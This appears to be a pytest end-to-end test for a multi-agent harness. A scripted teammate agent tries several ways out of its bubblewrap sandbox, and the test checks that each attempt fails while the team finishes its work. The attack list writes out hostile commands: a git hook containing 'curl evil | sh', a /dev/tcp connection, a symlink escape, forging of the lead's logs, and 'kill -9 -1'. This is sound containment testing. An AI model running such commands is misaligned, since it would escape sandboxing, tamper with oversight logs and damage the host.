"""End to end: a teammate of a real ``dsh run`` Team tries every way out; each fails and the Team goes on.

A real ``dsh run`` subprocess (the ``agent-teams`` profile, the scripted model,
the data dir inside the workspace as users lay it out). The teammate's ``bash``
calls try to write outside the workspace, plant a git hook, read the Lead's own
log, connect to a listener the test holds on 127.0.0.1, leave through a
symlink and kill every process it can see; then it does its real work and
reports to the Lead, which ends the run. The oracles are outside: the files on
disk, the listener's connections, the run's exit status and its logs.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from host_spec.host.store.jsonl import JsonlStore

from sandbox_kit import outside_dir

pytestmark = pytest.mark.slow

TIMEOUT_S = 120


def test_a_teammate_cannot_get_out_and_the_team_goes_on(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    for outside in outside_dir("dsh-team-outside-"):
        os.symlink(outside, ws / "link")
        attacks = [
            f"echo owned > {outside}/owned",
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            "cat .dsh-data/*.jsonl .dsh-data/*/* 2>&1 | grep -c session/header; echo forged >> .dsh-data/forged",
            f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED",
            "echo owned > link/through-link",
            "kill -9 -1; echo killed-what-it-could",
        ]
        script = {
            "lead": [
                {"text": "spawning", "tool_calls": [{"name": "spawn_teammate", "arguments": {
                    "name": "mallory", "description": "tries to get out", "prompt": "try, then do the work"}}]},
                {"text": "waiting", "tool_calls": [{"name": "wait_agent", "arguments": {"targets": ["mallory"]}}]},
                {"when": "work done", "text": "the Team is done"},
            ],
            "mallory": [
                {"text": "trying", "tool_calls": [{"name": "bash", "arguments": {"command": c}} for c in attacks]},
                {"text": "working", "tool_calls": [
                    {"name": "write_file", "arguments": {"path": "result.txt", "content": "real work\n"}},
                    {"name": "send_message", "arguments": {"target": "lead", "message": "work done"}}]},
                {"text": "finished"},
            ],
        }
        (tmp_path / "script.json").write_text(json.dumps(script))
        env = {k: v for k, v in os.environ.items() if k != "DSH_DATA_DIR"}
        done = subprocess.run(
            [sys.executable, "-m", "host_spec.host.cli.main", "run", "--profile", "agent-teams", "--model",
             f"scripted:{tmp_path / 'script.json'}", "--data-dir", str(ws / ".dsh-data"), "--workspace", str(ws),
             "build it"], env=env, capture_output=True, text=True, timeout=TIMEOUT_S)
        try:
            listener.accept()
            connected = True
        except BlockingIOError:
            connected = False
        listener.close()
        assert done.returncode == 0, done.stderr[-3000:]
        assert "sandbox: workspace-write (bubblewrap, network off)" in done.stderr
        assert not (outside / "owned").exists() and not (outside / "through-link").exists()
        assert not (ws / ".git" / "hooks" / "pre-commit").exists() and not (ws / ".dsh-data" / "forged").exists()
        assert not connected
        assert (ws / "result.txt").read_text() == "real work\n"  # the teammate went on with its work

        store = JsonlStore(ws / ".dsh-data")
        member = next(i for i in store.list_ids() if i != "session-1" and "mallory" in json.dumps(
            [e.value() for e in store.read(i)[1][:3]]))
        results = [e.value() for e in store.read(member)[1] if e.type == "tool/result"][: len(attacks)]
        outputs = [json.loads(r["content"][0]["text"])["output"] for r in results]
        assert all("Read-only file system" in outputs[i] for i in (0, 1, 4)), outputs
        assert outputs[2].startswith("0\n") and "Read-only file system" in outputs[2], outputs[2]  # no log seen
        assert "CONNECTED" not in outputs[3]
        assert "killed-what-it-could" in outputs[5]
        lead_log = json.dumps([e.value() for e in store.read("session-1")[1]])
        assert "work done" in lead_log and "the Team is done" in lead_log
        show = subprocess.run([sys.executable, "-m", "host_spec.host.cli.main", "team", "show", "--data-dir",
                               str(ws / ".dsh-data")], env=env, capture_output=True, text=True, timeout=TIMEOUT_S)
        assert show.returncode == 0, show.stderr
        assert show.stdout.rstrip().endswith(
            "Sandbox: lead workspace-write, mallory workspace-write; UNSANDBOXED: none")
